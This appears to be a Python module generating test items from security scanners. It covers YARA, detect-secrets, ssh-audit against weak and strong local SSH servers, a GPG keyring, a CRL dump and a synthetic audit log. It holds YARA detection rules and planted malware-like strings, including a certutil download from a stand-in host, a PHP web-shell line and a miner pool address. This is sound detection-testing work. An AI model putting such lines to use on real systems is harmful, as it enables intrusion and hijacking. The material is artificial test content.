"""Scanners of files, servers and keys that nobody tunes on; their JSON or planted files tell the facts."""

import contextlib
import json
import os
import re
from collections.abc import Iterator
from functools import partial

from items import Fact, Item
from reports import said_in
from shop import Shop

from recipes.databases import running
from recipes.eighth_tools import python_tools, tool_of
from recipes.fifth_suites import plain
from recipes.held_documents import keys_of
from recipes.held_servers import free_port, listens
from recipes.held_suites import write

SCANNER, KEYS, AUDIT = "scanner", "keys", "audit"

RULES = """
rule dropper {{ meta: severity = "high" strings: $a = "powershell -enc" nocase $b = "certutil -urlcache" condition: any of them }}
rule miner {{ meta: severity = "medium" strings: $a = "stratum+tcp://" $b = /xmrig-[0-9.]+/ condition: any of them }}
rule web_shell {{ meta: severity = "high" strings: $a = "eval(base64_decode(" $b = "passthru(" condition: any of them }}
rule packed_exe {{ meta: severity = "low" strings: $a = {{ 55 50 58 30 00 }} condition: $a }}
rule long_base64 {{ meta: severity = "low" strings: $a = /[A-Za-z0-9+\\/]{{120,}}/ condition: $a }}
rule calls_home {{ meta: severity = "low" strings: $a = /https?:\\/\\/[a-z0-9.]+\\/[a-z_]+/ condition: #a > 12 }}
"""
BAD = (
    ("dropper", "start powershell -ENC SQBFAFgA"), ("miner", "pool = stratum+tcp://pool.bad.example:3333"), ("web_shell", "<?php eval(base64_decode($_POST['x']));"),
    ("packed_exe", "UPX0\0 packed"), ("miner", "run xmrig-6.21.0 quietly"), ("dropper", "certutil -urlcache -f http://bad.example/x"),
)  # fmt: skip


def yara_run(name: str, source: str, shop: Shop) -> Iterator[Item]:
    """What yara finds in a package with bad files among its own; the facts are planted: each with its rule."""
    shop.install("yara")
    room = shop.room(name)
    tree = shop.sdist(source, room)
    files = sorted(
        os.path.join(at, one)
        for at, _, names in os.walk(tree)
        for one in names
        if one.endswith((".py", ".txt", ".html"))
    )
    facts = [
        Fact("name", (rule,)) for rule in ("dropper", "miner", "web_shell", "packed_exe", "long_base64", "calls_home")
    ]
    for number, path in enumerate(files[5::23]):
        rule, words = BAD[number % len(BAD)]
        with open(path, "a", encoding="utf-8") as out:
            out.write(f"\n# {words} {number}\n")
        facts.append(Fact("odd", (), (rule, os.path.relpath(path, room))))
    write(os.path.join(room, "rules.yar"), RULES.replace("{{", "{").replace("}}", "}"))
    text = shop.run(["yara", "-r", "-s", "-m", "rules.yar", os.path.basename(tree)], room).text
    short = re.findall(r"^(\w+) \[severity=\"(\w+)\"\] (\S+)$", text, re.MULTILINE)
    facts += [Fact("path", (path,)) for rule, _, path in short]
    yield Item(name, SCANNER, "text", "yara -r -s -m rules.yar", text, said_in(facts, text))


def secrets_run(name: str, source: str, shop: Shop) -> Iterator[Item]:
    """What `detect-secrets scan` reports of a package, JSON; the facts are the kinds, the files, and the keys."""
    tool = tool_of(shop, "detect-secrets")
    tree = shop.sdist(source, shop.room(name))
    text = shop.run([tool, "scan", "--all-files", "."], tree, apart=True, seconds=500).text
    about = json.loads(text)
    facts = [
        Fact("key", (key,))
        for key in dict.fromkeys(
            (
                "results",
                "plugins_used",
                "filters_used",
                "version",
                "generated_at",
                *keys_of(next(iter(about["results"].values()))),
            )
        )
    ]
    for path, rows in about["results"].items():
        facts.append(Fact("message", (f'"{path}"',)))
        facts += [Fact("message", (f'"type": "{row["type"]}"',)) for row in rows]
    facts += [Fact("message", (f'"{row["name"]}"',)) for row in about["plugins_used"]]
    yield Item(name, SCANNER, "json", "detect-secrets scan --all-files .", text, said_in(facts, text))


SSH = """import asyncio, sys, asyncssh
async def main():
    key = asyncssh.generate_private_key("ssh-rsa", key_size=int(sys.argv[2]))
    more = [asyncssh.generate_private_key("ecdsa-sha2-nistp256"), asyncssh.generate_private_key("ssh-ed25519")]
    await asyncssh.listen("127.0.0.1", int(sys.argv[1]), server_host_keys=[key, *more[int(sys.argv[3]) :]],
        kex_algs="*", encryption_algs=sys.argv[4].split(","), mac_algs=sys.argv[5].split(","), signature_algs="*")
    await asyncio.Event().wait()
asyncio.run(main())
"""
WEAK = (
    "aes256-ctr,aes128-cbc,3des-cbc,arcfour,blowfish-cbc,chacha20-poly1305@openssh.com",
    "hmac-md5,hmac-sha1-96,hmac-sha2-256-etm@openssh.com,hmac-sha1",
)
STRONG = (
    "aes256-gcm@openssh.com,chacha20-poly1305@openssh.com,aes128-ctr",
    "hmac-sha2-512-etm@openssh.com,umac-64@openssh.com",
)


def ssh_run(name: str, shop: Shop) -> Iterator[Item]:
    """What ssh-audit says of two servers; the facts are those of its JSON: every algorithm that fails or is warned of."""
    python, tool = python_tools(shop), tool_of(shop, "ssh-audit")
    room = shop.room(name)
    write(os.path.join(room, "serve.py"), SSH)
    texts, facts = [], []
    for size, skip, (ciphers, sums) in (("1024", "0", WEAK), ("3072", "1", STRONG)):
        port = free_port()
        with running(
            [python, "serve.py", str(port), size, skip, ciphers, sums],
            room,
            partial(listens, port),
            shop.environment(),
        ):
            command = [tool, "--skip-rate-test", "-n", "-t", "20", f"127.0.0.1:{port}"]
            texts.append(plain(shop.run(command, room).text).replace(f":{port}", ":22"))
            about = json.loads(shop.run([*command[:1], "-jj", *command[1:]], room, apart=True).text)
        for part in ("kex", "key", "enc", "mac"):
            for row in about[part]:
                said = row.get("notes", {})
                facts += [Fact("message", (row["algorithm"],))] if said.get("fail") or said.get("warn") else []
                facts += [Fact("message", (one[:90],)) for kind in ("fail", "warn") for one in said.get(kind, ())]
        facts += [
            Fact("odd", (), (f"-{row['name']}",))
            for group in about["recommendations"].values()
            for kind in group.get("del", {}).values()
            for row in kind
        ]
        facts += [
            Fact("message", (f"SHA256:{row['hash']}",)) for row in about["fingerprints"] if row["hash_alg"] == "SHA256"
        ]
    text = "\n".join(texts)
    yield Item(name, SCANNER, "text", "ssh-audit 127.0.0.1", text, said_in(facts, text))


def gpg_run(name: str, shop: Shop) -> Iterator[Item]:
    """The packets of a ring of keys; the facts, from its form for machines, are every key and owner, and which are void."""
    shop.install("gpg", "gnupg")
    room = shop.room(name)
    os.chmod(room, 0o700)
    env = {"GNUPGHOME": room}
    batch = []
    for number in range(22):
        kind = "Key-Type: eddsa\nKey-Curve: ed25519\nKey-Usage: sign\nSubkey-Type: ecdh\nSubkey-Curve: cv25519"
        until = "Expire-Date: 20261231T000000" if number % 5 else "Expire-Date: 0"
        note = "Name-Comment: old card" if number == 13 else ""
        batch.append(
            f"%no-protection\n{kind}\nName-Real: Keeper {number}\nName-Email: keeper{number}@quay.example\n{note}\n{until}\n%commit\n".replace(
                "\n\n", "\n"
            )
        )
    write(os.path.join(room, "batch"), "".join(batch))
    try:
        shop.run(["gpg", "--batch", "--gen-key", "batch"], room, env=env).check()
        for number in (4, 17):
            listed = shop.run(
                ["gpg", "--batch", "--with-colons", "--list-keys", f"keeper{number}@quay.example"],
                room,
                env=env,
                apart=True,
            ).text
            print_ = re.findall(r"^fpr:+(\w+):", listed, re.MULTILINE)[0]
            path = os.path.join(room, "openpgp-revocs.d", f"{print_}.rev")
            with open(path, encoding="utf-8") as file:
                write(path, file.read().replace(":-----BEGIN", "-----BEGIN"))
            shop.run(["gpg", "--batch", "--import", path], room, env=env).check()
        shop.run(["gpg", "--batch", "--output", "ring.pgp", "--export"], room, env=env).check()
        text = shop.run(["gpg", "--list-packets", "ring.pgp"], room, env=env).text
        rows = shop.run(["gpg", "--batch", "--with-colons", "--list-keys"], room, env=env, apart=True).text
    finally:
        shop.run(["gpgconf", "--homedir", room, "--kill", "all"], room, env=env)
    facts = [Fact("message", (one,)) for one in re.findall(r"^uid:(?:[^:]*:){8}([^:]+):", rows, re.MULTILINE)]
    facts += [Fact("name", (one,)) for one in re.findall(r"^pub:(?:[^:]*:){3}(\w{16}):", rows, re.MULTILINE)]
    facts += [
        Fact("message", (one,))
        for one in (
            "sigclass 0x20",
            "sigclass 0x13",
            "sigclass 0x18",
            "old card",
            ":public sub key packet:",
            ":public key packet:",
            ":user ID packet:",
            ":signature packet: algo 22",
        )
    ]
    yield Item(name, KEYS, "text", "gpg --list-packets ring.pgp", text, said_in(facts, text))


def asn_run(name: str, shop: Shop) -> Iterator[Item]:
    """What dumpasn1 shows of a list of void certificates; the facts are planted: reasons, serials at the ends, names."""
    shop.install("dumpasn1")
    shop.need("openssl")
    room = shop.room(name)
    entries = []
    reasons = {30: "keyCompromise", 77: "CACompromise", 120: "affiliationChanged"}
    for number in range(160):
        why = f",{reasons[number]}" if number in reasons else ",superseded" if number % 40 == 9 else ""
        entries.append(
            f"R\t271231000000Z\t26{number % 12 + 1:02}01120000Z{why}\t{0x5A0000 + number * 257:X}\tunknown\t/CN=boat{number}"
        )
    write(os.path.join(room, "index.txt"), "\n".join(entries) + "\n")
    write(
        os.path.join(room, "ca.cnf"),
        "[ca]\ndefault_ca=c\n[c]\ndatabase=index.txt\ncrlnumber=number\ndefault_md=sha256\ndefault_crl_days=30\ncrl_extensions=e\n[e]\nauthorityKeyIdentifier=keyid:always\n",
    )
    write(os.path.join(room, "number"), "1001\n")
    shop.run(
        [
            "openssl",
            "req",
            "-x509",
            "-newkey",
            "rsa:2048",
            "-nodes",
            "-keyout",
            "k.pem",
            "-out",
            "c.pem",
            "-subj",
            "/C=NO/O=Quay Office/OU=Boats/CN=Quay Root 3",
        ],
        room,
    ).check()
    shop.run(
        ["openssl", "ca", "-config", "ca.cnf", "-gencrl", "-keyfile", "k.pem", "-cert", "c.pem", "-out", "void.pem"],
        room,
    ).check()
    shop.run(["openssl", "crl", "-in", "void.pem", "-outform", "DER", "-out", "void.crl"], room).check()
    text = shop.run(["dumpasn1", "void.crl"], room).text
    facts = [
        Fact("message", (one,))
        for one in (
            "'Quay Office'",
            "'Boats'",
            "'Quay Root 3'",
            "'NO'",
            "sha256WithRSAEncryption",
            "cRLNumber",
            "authorityKeyIdentifier",
            "INTEGER 4097",
            "cRLReason",
            "0 warnings, 0 errors.",
            "countryName",
            "organizationName",
            "commonName",
        )
    ]
    facts += [Fact("odd", (), (f"{0x5A0000 + n * 257}",)) for n in (0, 30, 77, 120, 159)]
    facts += [Fact("odd", (), ("ENUMERATED", str(code))) for code in (1, 2, 3, 4)]
    facts += [Fact("message", (f"UTCTime 01/{month:02}/2026 12:00:00 GMT",)) for month in range(1, 13)]
    yield Item(name, KEYS, "text", "dumpasn1 void.crl", text, said_in(facts, text))


def audit_log() -> tuple[str, list[Fact]]:
    """Records of a kernel's audit, in its own form; and what somebody who looks after the machine must see."""
    lines, facts = [], []
    for number in range(150):
        stamp = f"audit({1_794_500_000 + number * 40}.{number:03}:{9000 + number})"
        if number % 13 == 6:
            lines.append(
                f'type=USER_AUTH msg={stamp}: pid={400 + number} uid=0 auid=4294967295 ses=4294967295 msg=\'op=PAM:authentication grantors=? acct="guest{number}" exe="/usr/sbin/sshd" hostname=198.51.100.{number} addr=198.51.100.{number} terminal=ssh res=failed\''
            )
            facts.append(Fact("message", (f"acct=guest{number}",)))
            continue
        if number % 37 == 20:
            lines.append(
                f'type=AVC msg={stamp}: apparmor="DENIED" operation="open" profile="/usr/sbin/tided" name="/srv/keys/{number}" pid={400 + number} comm="tided" requested_mask="r" denied_mask="r" fsuid=33 ouid=0'
            )
            facts.append(Fact("message", (f"/srv/keys/{number}",)))
            continue
        call, success, code = (257, "yes", 3) if number % 11 != 5 else (257, "no", -13)
        comm = "cat" if number % 3 else "tided"
        path = f"/srv/log/{number % 20}.txt" if success == "yes" else f"/etc/secret{number}.conf"
        lines.append(
            f'type=SYSCALL msg={stamp}: arch=c000003e syscall={call} success={success} exit={code} a0=ffffff9c a1=7ffd a2=0 a3=0 items=1 ppid=300 pid={400 + number} auid=1000 uid=1000 gid=1000 euid=1000 suid=1000 fsuid=1000 egid=1000 sgid=1000 fsgid=1000 tty=pts0 ses=3 comm="{comm}" exe="/usr/bin/{comm}" key="watch{number % 4}"'
        )
        lines.append(f'type=CWD msg={stamp}: cwd="/srv"')
        lines.append(
            f'type=PATH msg={stamp}: item=0 name="{path}" inode={7000 + number} dev=08:01 mode=0100640 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0'
        )
        facts += [Fact("message", (path,))] if success == "no" else []
    return "\n".join(lines) + "\n", facts


def ausearch_run(name: str, shop: Shop) -> Iterator[Item]:
    """What `ausearch -i` makes of an audit log; the facts are planted: refusals with their paths, kinds and keys."""
    shop.install("ausearch", "auditd")
    room = shop.room(name)
    log, facts = audit_log()
    write(os.path.join(room, "audit.log"), log)
    with contextlib.suppress(OSError):
        os.chmod(os.path.join(room, "audit.log"), 0o600)
    text = shop.run(["ausearch", "-i", "-if", "audit.log"], room).text
    facts += [
        Fact("message", (one,))
        for one in (
            "EACCES(Permission denied)",
            "res=failed",
            "DENIED",
            "type=USER_AUTH",
            "type=AVC",
            "type=SYSCALL",
            "type=PATH",
            "type=CWD",
            "profile=/usr/sbin/tided",
            "comm=cat",
            "comm=tided",
            "success=no",
        )
    ]
    facts += [Fact("message", (f"key=watch{n}",)) for n in range(4)]
    yield Item(name, AUDIT, "text", "ausearch -i -if audit.log", text, said_in(facts, text))


RECIPES = {
    "yara-sphinx": partial(yara_run, "yara-sphinx", "sphinx==7.4.0"),
    "detect-secrets-twisted": partial(secrets_run, "detect-secrets-twisted", "twisted==24.7.0"),
    "ssh-audit-servers": partial(ssh_run, "ssh-audit-servers"),
    "gpg-ring": partial(gpg_run, "gpg-ring"),
    "dumpasn1-void": partial(asn_run, "dumpasn1-void"),
    "ausearch-watch": partial(ausearch_run, "ausearch-watch"),
}
